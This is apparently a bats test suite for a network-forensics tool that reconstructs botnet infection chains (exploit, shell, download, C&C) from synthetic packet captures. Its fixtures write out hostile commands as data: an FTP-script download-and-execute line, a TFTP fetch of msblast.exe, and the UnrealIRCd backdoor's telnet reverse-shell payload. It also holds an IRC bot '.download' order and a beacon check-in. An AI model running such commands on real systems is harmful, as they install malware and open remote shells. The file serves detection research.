#!/usr/bin/env bats
# bh-story: the episodes of a local host and the evidence of each step.
# The chains are fixture captures (bh-mkpcap, from the conversations
# below through tests/conv.awk) run through the whole pipeline: the
# classic exploit -> shell "echo open H P ... ftp -s:" -> FTP download of
# the 2004-2010 bots, the DCOM exploit -> "tftp -i H GET" -> TFTP -> IRC
# chain, an IRC ".download URL" after the MOTD, a 302 whose Location
# names the executable, HTTP check-ins at regular intervals (a beacon),
# a DCC offer.  The rules of placing (windows, order, caps) use records
# written by hand.

load helper

setup() {
	T=$BATS_TEST_TMPDIR
}

# story NAME [bh-story options] < conversation: the capture $T/NAME.pcap
# (not at the end of a pipe: run must set $output in this shell)
# through bh-sessions -L 192.168.1.0/24 | bh-phase | bh-rtt | bh-ttl into
# $T/NAME.tsv, then bh-story; $output is bh-story's.
story() {
	[ -x "$BH_BIN/bh-sessions" ] && [ -x "$BH_BIN/bh-mkpcap" ] ||
	    skip "bh-sessions or bh-mkpcap not built"
	local name=$1
	shift
	awk -f "$BATS_TEST_DIRNAME/conv.awk" | bh-mkpcap -o "$T/$name.pcap"
	bh-sessions -L 192.168.1.0/24 "$T/$name.pcap" | bh-phase | bh-rtt |
	    bh-ttl > "$T/$name.tsv"
	run -0 bh-story "$@" "$T/$name.tsv"
}

# The SMB exploit, the bind shell it opened on 4444 (the attacker types
# the FTP script), the FTP session the script names, its active data
# from port 20, the IRC C&C.  With an argument, the attacker first types
# a line long enough to put the script past byte 256 of its stream.
shell_ftp() {
	cat <<'EOF'
session 1262304000.000000 203.0.113.9:1100 192.168.1.5:445 ttl=113/128
c hex:00000085ff534d4272000000001853c8
s hex:00000055ff534d4272
c hex:00000040ff534d4273000000001853c8
end
session 1262304002.000000 203.0.113.9:1101 192.168.1.5:4444 ttl=113/128
s "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"
EOF
	if [ $# -gt 0 ]; then
		printf 'c "rem %s\\r\\n"\n' "$(printf '%0260d' 0)"
	fi
	cat <<'EOF'
c "echo open 198.51.100.20 2121 > o&echo user x y >> o&echo binary >> o&echo get bot.exe >> o&echo bye >> o&ftp -n -s:o&del o&bot.exe\r\n"
end
session 1262304005.000000 192.168.1.5:1030 198.51.100.20:2121 ttl=128/52
s "220 hi\r\n"
c "USER x\r\n"
s "331 ok\r\n"
c "PASS y\r\n"
s "230 ok\r\n"
c "PORT 192,168,1,5,4,7\r\n"
s "200 ok\r\n"
c "RETR bot.exe\r\n"
s "150 ok\r\n226 done\r\n"
end
session 1262304006.000000 198.51.100.20:20 192.168.1.5:1031 ttl=52/128
c "MZ" hex:90000300
end
session 1262304010.000000 192.168.1.5:1040 198.51.100.7:6667 ttl=128/50
c "NICK a1\r\nUSER x 0 0 :x\r\n"
s ":irc.example 001 a1 :Welcome\r\n"
c "JOIN #x\r\n"
end
EOF
}

@test "exploit, bind shell 'echo open H P ... ftp -s:o', the FTP download it names, its data, the C&C" {
	shell_ftp > "$T/c"
	story shellftp < "$T/c"
	[ "$(vals episode step role app evidence via_step)" = "1 1 1 1 1 1 2 3 4 5 infection shell download download cnc smb shell ftp ftp-data irc start same-source cmd-ftp ftp-data time - 1 2 3 - " ]
	[ "$(vals remote_ip remote_port)" = "203.0.113.9 203.0.113.9 198.51.100.20 198.51.100.20 198.51.100.7 1100 1101 2121 20 6667 " ]
	[ "$(printf '%s\n' "$output" | col detail | sed -n 3p)" = "ftp://198.51.100.20:2121/bot.exe" ]
	[ "$(printf '%s\n' "$output" | col detail | sed -n 5p)" = "srv=irc.example chan=#x nick=a1" ]
	# the shell's commands, escaped, each line at most 72 bytes
	[ "$(printf '%s\n' "$output" | col detail | sed -n 2p)" = "echo open 198.51.100.20 2121 > o&echo user x y >> o&echo binary >> o&ech..." ]
	# the distances come from bh-rtt and bh-ttl: 128 - 113 = 15 hops
	[ "$(vals remote_hops remote_os)" = "15 15 12 12 14 windows windows unix unix unix " ]
}

@test "-s: one summary per episode, the study's question answered for the bot" {
	shell_ftp > "$T/c"
	story shellftp -s < "$T/c"
	[ "$(vals episode steps infection_src infection_app download_servers download_files cnc_servers)" = "1 5 203.0.113.9:1100 smb 198.51.100.20:2121 bot.exe 198.51.100.7:6667 " ]
	[ "$(vals t_download_s t_cnc_s infection_hops download_hops cnc_hops download_os)" = "5.000000 10.000000 15 12 14 unix " ]
	[ "$(vals evidence propagation)" = "same-source,cmd-ftp,ftp-data,time 0 " ]
}

@test "the shell's 'echo open H P' past byte 256 of the stream still names the FTP session (cmd-ftp)" {
	shell_ftp pad > "$T/c"
	story late < "$T/c"
	[ "$(vals step evidence via_step)" = "1 2 3 4 5 start same-source cmd-ftp ftp-data time - 1 2 3 - " ]
	# the order is not in the head: it came from the evidence
	[ "$(col orig_head < "$T/late.tsv" | grep -c 'echo open')" = 0 ]
	[ "$(col orig_ev < "$T/late.tsv" | grep -c 'echo open 198.51.100.20 2121')" = 1 ]
}

@test "evidence items that cannot be read: reported with file and line, the shell's order still read from the others" {
	shell_ftp pad > "$T/c"
	story late < "$T/c"
	# the shell's record: two items no reference into its head (past
	# 128 bytes, not a number) before the ones bh-sessions wrote
	awk -F'\t' -v OFS='\t' '
	NR == 1 { for (i = 1; i <= NF; i++) if ($i == "orig_ev") c = i }
	NR > 1 && $c ~ /echo open/ { $c = "m0/999,mz/1," $c; n = NR }
	{ print }
	END { if (n != 3) exit 1 }' "$T/late.tsv" > "$T/bad.tsv"
	run --separate-stderr -1 bh-story "$T/bad.tsv"
	[ "$stderr" = "bh-story: $T/bad.tsv:3: orig_ev: 2 items not read (neither KOFF:TEXT nor mOFF/LEN inside orig_head)
bh-story: 1 record read in part" ]
	[ "$(vals step evidence via_step)" = "1 2 3 4 5 start same-source cmd-ftp ftp-data time - 1 2 3 - " ]
	run --separate-stderr -2 bh-story --strict "$T/bad.tsv"
	[ "$stderr" = "bh-story: $T/bad.tsv:3: orig_ev: 2 items not read (neither KOFF:TEXT nor mOFF/LEN inside orig_head)" ]
}

@test "DCOM exploit, shell 'tftp -i H GET X' past the head, the TFTP request and its data, IRC by time" {
	story tftp <<'EOF'
session 1262304000.000000 203.0.113.9:3333 192.168.1.5:135 ttl=113/128
c hex:05000b0310000000480000007f000000
s hex:05000c0310000000
c hex:05000003100000001800000001000000
end
session 1262304001.000000 203.0.113.9:3334 192.168.1.5:4444 ttl=113/128
s "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\nC:\\WINDOWS\\system32>"
c "cd \\WINDOWS\\system32\r\nrem a long line first, so that the order comes past the head of the stream: 0123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789012345678901234567890123456789\r\n"
c "tftp -i 198.51.100.30 GET msblast.exe\r\n"
c "start msblast.exe\r\n"
end
1262304003.000000 udp 192.168.1.5:1050 > 198.51.100.30:69 ttl=128 hex:00016d73626c6173742e657865006f6374657400
+0.060 udp 198.51.100.30:3001 > 192.168.1.5:1050 ttl=52 hex:000300014d5a90000300
+0.001 udp 192.168.1.5:1050 > 198.51.100.30:3001 ttl=128 hex:00040001
session 1262304008.000000 192.168.1.5:1040 198.51.100.7:6667 ttl=128/50
c "NICK a1\r\nUSER x 0 0 :x\r\n"
s ":irc.example 001 a1 :Welcome\r\n"
end
EOF
	[ "$(vals step role evidence via_step)" = "1 2 3 4 5 infection shell download download cnc start same-source cmd-tftp tftp-data time - 1 2 3 - " ]
	[ "$(printf '%s\n' "$output" | col detail | sed -n 3p)" = "tftp://198.51.100.30/msblast.exe" ]
	# the cut line of the head is replaced by the whole line of the evidence
	[ "$(printf '%s\n' "$output" | col detail | sed -n 2p)" = 'cd \\WINDOWS\\system32 ; rem a long line first, so that the order comes past the head of the stre... ; tftp -i 198.51.100.30 GET msblast.exe ; start msblast.exe' ]
}

@test "an IRC '.download URL' after the MOTD names the HTTP download (irc-url); a 302 Location names the next (http-location)" {
	story irc <<'EOF'
session 1262304000.000000 192.168.1.5:1040 198.51.100.7:6667 ttl=128/50
c "NICK [XP|USA|12345]\r\nUSER abcd 0 0 :12345\r\n"
s ":irc.example 001 [XP|USA|12345] :Welcome to the IRC Network\r\n:irc.example 005 [XP|USA|12345] NETWORK=bots :are supported\r\n:irc.example 375 [XP|USA|12345] :- irc.example Message of the Day - this server is a long way from home\r\n:irc.example 376 [XP|USA|12345] :End of /MOTD command.\r\n"
c "JOIN #s k3y\r\n"
s ":[XP|USA|12345]!x@192.168.1.5 JOIN :#s\r\n"
s ":boss!b@cc PRIVMSG #s :.download http://dl.example.net/upd/bot.exe c:\\bot.exe 1\r\n"
end
session 1262304004.000000 192.168.1.5:1041 198.51.100.80:80 ttl=128/50
c "GET /upd/bot.exe HTTP/1.0\r\nHost: dl.example.net\r\n\r\n"
s "HTTP/1.0 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ" hex:90000300
end
session 1262304010.000000 192.168.1.5:1042 198.51.100.81:80 ttl=128/50
c "GET /a HTTP/1.1\r\nHost: a.example\r\n\r\n"
s "HTTP/1.1 302 Found\r\nLocation: http://198.51.100.90:8080/b.exe\r\nContent-Length: 0\r\n\r\n"
end
session 1262304011.000000 192.168.1.5:1043 198.51.100.90:8080 ttl=128/50
c "GET /b.exe HTTP/1.1\r\nHost: 198.51.100.90:8080\r\n\r\n"
s "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ" hex:90000300
end
EOF
	# the capture begins with the C&C: it opens the episode
	[ "$(vals step role evidence via_step)" = "1 2 3 4 cnc download download download start irc-url time http-location - 1 - 3 " ]
	[ "$(printf '%s\n' "$output" | col detail)" = 'srv=irc.example chan=#s nick=[XP|USA|12345] cmd=.download http://dl.example.net/upd/bot.exe c:\\bot.exe 1
http://dl.example.net/upd/bot.exe
http://a.example/a
http://198.51.100.90:8080/b.exe' ]
	# the order was past byte 256 of the server's stream
	[ "$(col resp_head < "$T/irc.tsv" | grep -c download)" = 0 ]
}

@test "a Host that is no host name leaves the address in the detail, whatever came before (found by fuzz_story)" {
	# the first request's Host fills the buffer, the second's bad byte
	# once left a name cut short and unterminated
	story badhost <<'EOF'
session 1262304000.000000 192.168.1.5:1041 198.51.100.80:80 ttl=128/50
c "GET /a.exe HTTP/1.0\r\nHost: averyveryverylongname.example.net\r\n\r\n"
s "HTTP/1.0 200 OK\r\n\r\nMZ" hex:90000300
end
session 1262304004.000000 192.168.1.5:1042 198.51.100.81:80 ttl=128/50
c "GET /b.exe HTTP/1.0\r\nHost: dl.ex\xc4\xbfZU\r\n\r\n"
s "HTTP/1.0 200 OK\r\n\r\nMZ" hex:90000300
end
EOF
	[ "$(printf '%s\n' "$output" | col detail)" = "http://averyveryverylongname.example.net/a.exe
http://198.51.100.81/b.exe" ]
}

@test "a DCC SEND offer names the connection to the offered address and port (dcc)" {
	# 3325256807 = 198.51.100.103
	story dcc <<'EOF'
session 1262304000.000000 192.168.1.5:1040 198.51.100.7:6667 ttl=128/50
c "NICK a1\r\nUSER x 0 0 :x\r\n"
s ":irc.example 001 a1 :Welcome\r\n"
s ":boss!b@cc PRIVMSG a1 :\x01DCC SEND upd.exe 3325256807 5000 4096\x01\r\n"
end
session 1262304003.000000 192.168.1.5:1041 198.51.100.103:5000 ttl=128/50
s "MZ" hex:90000300
end
EOF
	[ "$(vals step remote_ip remote_port evidence via_step)" = "1 2 198.51.100.7 198.51.100.103 6667 5000 start dcc - 1 " ]
}

@test "a backdoor's 'telnet H P' names the shell it opens (cmd-connect); the local host's own DCC offers name the connections to it" {
	# after the UnrealIRCd 3.2.8.1 backdoor and Zeek's irc-dcc-send
	# trace: the offer's CTCP quotes (\x01) and a colour code (\x03)
	# still make it a command line of the evidence
	story connect <<'EOF'
session 1262304000.000000 203.0.113.9:40000 192.168.1.5:6667 ttl=50/64
s ":irc.example NOTICE AUTH :*** Looking up your hostname...\r\n"
c "AB;sh -c '(sleep 1|telnet 203.0.113.9 4444|while : ; do sh && break; done 2>&1|telnet 203.0.113.9 4444 >/dev/null 2>&1 &)'\r\n"
end
session 1262304002.000000 192.168.1.5:1050 203.0.113.9:4444 ttl=64/50
s "id\n"
c "uid=0(root) gid=0(root)\n"
end
session 1262304010.000000 192.168.1.5:1060 198.51.100.7:6667 ttl=64/50
c "NICK a1\r\nUSER x 0 0 :x\r\n"
s ":irc.example 001 a1 :Welcome to the network of the example, this line is long so that the offers come past the head of the client's stream\r\n"
c "JOIN #x\r\nPRIVMSG #x :\x034hello, this line too is long so that the offers come past the head of the stream, all of it\r\nPRIVMSG #x :more text, to make the stream longer than two hundred and fifty six bytes\r\n"
c "PRIVMSG boss :\x01DCC SEND bot.exe 3232235781 5000 4096\x01\r\n"
c "PRIVMSG boss :\x01DCC CHAT chat 3232235781 5001\x01\r\n"
end
session 1262304012.000000 198.51.100.7:3000 192.168.1.5:5000 ttl=50/64
s "MZ" hex:90000300
c hex:00001000
end
session 1262304014.000000 198.51.100.7:3001 192.168.1.5:5001 ttl=50/64
c "hello bot\r\n"
s "ok\r\n"
end
EOF
	[ "$(vals step role remote_port evidence via_step)" = "1 2 3 4 5 shell shell cnc propagation cnc 40000 4444 6667 3000 3001 start cmd-connect time dcc dcc - 1 - 3 3 " ]
	[ "$(printf '%s\n' "$output" | col detail | sed -n 4,5p)" = "dcc bot.exe
dcc chat" ]
	# the offers were past the head: command lines of the evidence
	[ "$(col orig_ev < "$T/connect.tsv" | grep -c 'l[0-9]*:PRIVMSG boss :\\x01DCC SEND')" = 1 ]
}

@test "a session that came late and began before its episode joins it by the same source" {
	# a RAT's first connection outlasts the others (gh0st keep-alives)
	srec > "$T/in" <<'EOF'
flow=2 ts=1100.000000 dur=10.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1031 resp_ip=198.51.100.9 resp_port=80 dir=out phase=cnc app=gh0st
flow=3 ts=1200.000000 dur=10.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1032 resp_ip=198.51.100.9 resp_port=80 dir=out phase=cnc app=gh0st
flow=4 ts=5000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.7 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=scan app=smb
flow=5 ts=6000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.8 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=scan app=smb
flow=1 ts=1000.000000 dur=9000.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1030 resp_ip=198.51.100.9 resp_port=80 dir=out phase=cnc app=gh0st
EOF
	run -0 bh-story -s "$T/in"
	[ "$(vals episode start steps evidence)" = "1 1000.000000 3 same-source " ]
}

@test "HTTP check-ins at regular intervals are a beacon: C&C, each step the one before; occasional browsing is not" {
	{
		for i in 0 1 2 3 4; do
			t=$((1262304000 + i * 60 + (i % 2) * 3))
			echo "session $t.000000 192.168.1.5:$((1100 + i)) 198.51.100.99:80 ttl=128/50"
			echo 'c "POST /gate.php?id=7 HTTP/1.1\r\nHost: c2.example\r\nContent-Length: 12\r\n\r\nid=1&s=check"'
			echo 's "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nwait"'
			echo end
		done
		for t in 1262304300 1262304360; do
			echo "session $t.000000 192.168.1.5:1200 198.51.100.50:80 ttl=128/50"
			echo 'c "GET /news HTTP/1.1\r\nHost: news.example\r\n\r\n"'
			echo 's "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"'
			echo end
		done
		echo "1262304400.000000 tcp 192.168.1.5:1300 > 203.0.113.70:445 S ttl=128"
	} > "$T/c"
	story beacon < "$T/c"
	[ "$(vals step role evidence via_step)" = "1 2 3 4 5 6 cnc cnc cnc cnc cnc propagation start beacon beacon beacon beacon time - 1 2 3 4 - " ]
	[ "$(printf '%s\n' "$output" | col detail | sed -n 1p)" = "beacon every 63s http://c2.example/gate.php" ]
	# three check-ins are not yet a series
	head -n 4 "$T/beacon.tsv" > "$T/three.tsv"
	run -0 bh-story "$T/three.tsv"
	[ "$output" = "$(head -n 1 <<< "$output")" ]
}

# ---- placing: hand-written records ------------------------------------

SCOLS="flow ts dur proto orig_ip orig_port resp_ip resp_port dir phase app rule link orig_bytes resp_bytes remote_hops rtt_remote_ms remote_os"

srec() {
	mkrec -c "$SCOLS"
}

@test "time alone says time; the same source joins the episode it names, not the latest" {
	srec > "$T/in" <<'EOF'
flow=1 ts=1000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
flow=2 ts=1002.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.2 orig_port=1100 resp_ip=192.168.1.5 resp_port=135 dir=in phase=infection app=dcerpc
flow=3 ts=1004.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1030 resp_ip=203.0.113.1 resp_port=8080 dir=out phase=download app=http
flow=4 ts=1005.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1031 resp_ip=198.51.100.5 resp_port=80 dir=out phase=download app=http
EOF
	run -0 bh-story "$T/in"
	[ "$(vals flow episode step evidence via_step)" = "1 2 3 4 1 2 1 2 1 1 2 2 start start same-source time - - 1 - " ]
}

@test "time alone: a C&C goes to the episode that downloaded a bot, not to a later bare exploit (the dialog's order)" {
	srec > "$T/in" <<'EOF'
flow=1 ts=1000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
flow=2 ts=1003.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1030 resp_ip=198.51.100.5 resp_port=80 dir=out phase=download app=http
flow=3 ts=1005.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.2 orig_port=1100 resp_ip=192.168.1.5 resp_port=135 dir=in phase=infection app=dcerpc
flow=4 ts=1008.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1031 resp_ip=198.51.100.7 resp_port=6667 dir=out phase=cnc app=irc
flow=5 ts=1009.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1032 resp_ip=203.0.113.9 resp_port=445 dir=out phase=scan app=smb
EOF
	run -0 bh-story "$T/in"
	[ "$(vals flow episode step evidence)" = "1 2 3 4 5 1 1 2 1 1 1 2 1 3 4 start time start time time " ]
}

@test "records in end order are placed in start order; an exploit in two connections is one infection" {
	# the exploit's second connection (flow 2) outlasts the download
	srec > "$T/in" <<'EOF'
flow=1 ts=1000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=139 dir=in phase=infection app=smb
flow=3 ts=1004.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1030 resp_ip=198.51.100.5 resp_port=80 dir=out phase=download app=http
flow=4 ts=1010.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.7 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=scan app=smb
flow=5 ts=1015.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.8 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=scan app=smb
flow=2 ts=1001.000000 dur=30.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1101 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
EOF
	run -0 bh-story "$T/in"
	[ "$(vals flow episode step evidence)" = "1 2 3 1 1 1 1 2 3 start same-source time " ]
	[ "$(vals ts)" = "1000.000000 1001.000000 1004.000000 " ]
}

@test "-w: past the window an episode is closed, and a later download opens one of its own" {
	srec > "$T/in" <<'EOF'
flow=1 ts=1000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
flow=2 ts=1030.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1030 resp_ip=198.51.100.5 resp_port=80 dir=out phase=download app=http
EOF
	run -0 bh-story -w 10s "$T/in"
	[ "$(vals episode evidence)" = "1 2 start start " ]
	run -0 bh-story "$T/in"
	[ "$(vals episode evidence)" = "1 1 start time " ]
}

@test "the local host is the infected one whatever the direction; no local side is skipped and counted" {
	srec > "$T/in" <<'EOF'
flow=1 ts=1000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
flow=2 ts=1001.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.6 orig_port=1100 resp_ip=192.168.1.7 resp_port=445 dir=local phase=infection app=smb
flow=3 ts=1002.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1100 resp_ip=203.0.113.9 resp_port=445 dir=out phase=attack app=smb
flow=4 ts=1003.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.3 orig_port=1100 resp_ip=203.0.113.4 resp_port=445 dir=- phase=infection app=smb
flow=5 ts=1004.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.5 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=scan app=smb
EOF
	run -0 --separate-stderr bh-story "$T/in"
	[ "$(vals flow host role remote_ip)" = "1 2 3 192.168.1.5 192.168.1.7 192.168.1.5 infection infection propagation 203.0.113.1 192.168.1.6 203.0.113.9 " ]
	[ "$stderr" = "bh-story: 1 labelled sessions with no local side skipped (dir \`-' or ext: run bh-phase, or bh-sessions -L)" ]
}

@test "-n and -W: the caps are reported when hit, nothing is lost" {
	srec > "$T/in" <<'EOF'
flow=1 ts=1000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
flow=2 ts=1001.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.6 resp_port=445 dir=in phase=infection app=smb
flow=3 ts=1002.000000 dur=1.000000 proto=tcp orig_ip=192.168.1.5 orig_port=1030 resp_ip=198.51.100.5 resp_port=80 dir=out phase=download app=http
EOF
	run -0 --separate-stderr bh-story -n 1 "$T/in"
	[ "$(vals flow episode evidence)" = "1 2 3 1 2 3 start start start " ]
	# .6 pushes .5 out, and the download's .5 pushes .6 out
	[ "$stderr" = "bh-story: 2 hosts forgotten, their episodes closed early (more than 1 hosts; -n)" ]
	run -0 --separate-stderr bh-story -W 1 "$T/in"
	[ "$(vals flow episode)" = "1 2 3 1 2 1 " ]
	[ "$stderr" = "bh-story: 2 steps placed before the window had passed (more than 1 held; -W)" ]
}

@test "--svg: a panel per episode, the evidence as titles; --svg-max says what was not drawn" {
	shell_ftp > "$T/c"
	story shellftp --svg "$T/t.svg" < "$T/c"
	[ "$(grep -c '<g>' "$T/t.svg")" = 1 ]
	grep -q '<title>cmd-ftp</title>' "$T/t.svg"
	grep -q 'episode 1, host 192.168.1.5, 5 steps' "$T/t.svg"
	srec > "$T/in" <<'EOF'
flow=1 ts=1000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
flow=2 ts=1001.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.2 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
EOF
	run -0 bh-story --svg "$T/u.svg" --svg-max 1 "$T/in"
	[ "$(grep -c '<g>' "$T/u.svg")" = 1 ]
	grep -q '1 more episodes not drawn' "$T/u.svg"
	if command -v xmllint >/dev/null; then xmllint --noout "$T/t.svg"; fi
}

@test "-s: an empty field is listed as nothing, and the run ends (found by fuzz_story)" {
	srec > "$T/in" <<'EOF'
flow=1 ts=1000.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=
EOF
	run -0 timeout 20 bh-story -s "$T/in"
	[ "$(vals episode infection_src infection_app)" = "1 203.0.113.1:1100 - " ]
}

@test "bad input: a missing column and a bad option are exit 2, a bad time exit 1 with the rest kept, empty input nothing" {
	printf '#flow\tts\n1\t1000.0\n' > "$T/in"
	run -2 --separate-stderr bh-story "$T/in"
	[ "$output" = "" ]
	[ "$stderr" = "bh-story: $T/in: missing column 'proto'" ]
	run -2 --separate-stderr bh-story -w x "$T/in"
	[ "${stderr%%$'\n'*}" = "bh-story: -w: bad duration 'x'" ]
	run -2 bh-story -n 0 "$T/in"
	srec > "$T/in" <<'EOF'
flow=1 ts=10x0 dur=1.000000 proto=tcp orig_ip=203.0.113.1 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
flow=2 ts=1001.000000 dur=1.000000 proto=tcp orig_ip=203.0.113.2 orig_port=1100 resp_ip=192.168.1.5 resp_port=445 dir=in phase=infection app=smb
EOF
	run -1 --separate-stderr bh-story "$T/in"
	[ "$(vals flow)" = "2 " ]
	[ "$stderr" = "bh-story: $T/in:2: ts: bad timestamp '10x0'; record skipped
bh-story: 1 bad record skipped" ]
	: > "$T/empty"
	run -0 bh-story "$T/empty"
	[ "$output" = "" ]
}
